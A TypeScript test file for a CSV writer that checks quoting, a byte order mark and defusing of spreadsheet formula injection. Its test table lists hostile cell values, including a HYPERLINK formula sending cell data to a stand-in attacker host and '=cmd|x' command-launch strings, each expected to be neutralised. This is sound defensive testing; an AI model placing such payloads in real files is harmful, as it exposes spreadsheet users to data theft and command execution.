import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { toCsv, type CsvCell } from './response.ts'

async function readAll(pieces: AsyncIterable<string>): Promise<string> {
  let text = ''
  for await (const piece of pieces) text += piece
  return text
}

async function written(...cells: CsvCell[]): Promise<string> {
  const columns = cells.map((_, index) => ({ head: `c${index}`, cell: (row: CsvCell[]) => row[index]! }))
  const pages = (async function* () {
    yield [cells]
  })()
  const [, ...rest] = (await readAll(toCsv(columns, pages))).split('\r\n')
  return rest.join('\r\n')
}

describe('a CSV file', () => {
  it('starts with a byte order mark, then the header', async () => {
    const empty = (async function* () {})()
    const head = [
      { head: 'Name, full', cell: () => '' },
      { head: 'Zoë', cell: () => '' },
    ]
    expect(await readAll(toCsv(head, empty))).toBe('\uFEFF"Name, full",Zoë\r\n')
  })

  it('quotes what would break its lines and cells (RFC 4180)', async () => {
    expect(await written('a,b', 'say "hi"', 'two\nlines', 'plain', '')).toBe(
      '"a,b","say ""hi""","two\nlines",plain,\r\n',
    )
  })

  it('writes numbers, booleans, dates, and empty values plainly', async () => {
    const timestamp = new Date('2026-01-15T12:00:00Z')
    expect(await written(-5, true, false, timestamp, null)).toBe('-5,yes,no,2026-01-15T12:00:00.000Z,\r\n')
  })

  it.each([
    ['=1+2', "'=1+2"],
    ['+1 555 0100', "'+1 555 0100"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['|calc', "'|calc"],
    ['\t=1', `"'\t'=1"`],
    ['\tname', `"'\tname"`],
    [' =1', "' =1"],
    ['%0A=1', "'%0A=1"],
    ['\uFF1D1', "'\uFF1D1"],
    ['=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
    ['\r=1', `"'\r'=1"`],
    ['a=1', 'a=1'],
    // If a semicolon or a tab ends a cell, the quotes around this one have no effect.
    ['Acme;=cmd|x', `"Acme;'=cmd|x"`],
    ['Acme; "=cmd|x"', `"Acme;' ""=cmd|x"""`],
    ['Acme\t=cmd|x', `"Acme\t'=cmd|x"`],
    ['Acme\n=cmd|x', `"Acme\n'=cmd|x"`],
    ['Acme, =1; b', '"Acme, =1; b"'],
  ])('keeps a spreadsheet from running %j', async (text, cell) => expect(await written(text)).toBe(`${cell}\r\n`))

  it('has no formula with any separator that a spreadsheet uses', async () => {
    const part = fc.constantFrom(
      '=1',
      '-2',
      '@x',
      '|x',
      '+3',
      '\uFF1D1',
      ';',
      ',',
      '\t',
      '"',
      "'",
      '\n',
      ' ',
      'word',
      '',
    )
    const text = fc.array(part, { maxLength: 8 }).map((parts) => parts.join(''))
    const property = fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 3 }), async (cells) => {
      const file = await written(...cells)
      for (const separator of [',', ';', '\t'])
        for (const cell of readCells(file, separator)) expect(cell).not.toMatch(/^[\s"]*[=+\-@|%\uFF1D]/)
    })
    await fc.assert(property, { numRuns: 2000 })
  })
})

/** The cells as a spreadsheet sees them: quotes count at the start of a cell. */
function readCells(file: string, separator: string): string[] {
  const cells: string[] = []
  let cell = ''
  let isQuoted = false
  let isNew = true
  for (let at = 0; at < file.length; at++) {
    const sign = file[at]!
    if (isQuoted) {
      if (sign !== '"') cell += sign
      else if (file[at + 1] === '"') cell += file[++at]
      else isQuoted = false
    } else if (sign === '"' && isNew) {
      isQuoted = true
    } else if (sign === separator || sign === '\n' || sign === '\r') {
      cells.push(cell)
      cell = ''
      isNew = true
      continue
    } else {
      cell += sign
    }
    isNew = false
  }
  return [...cells, cell]
}
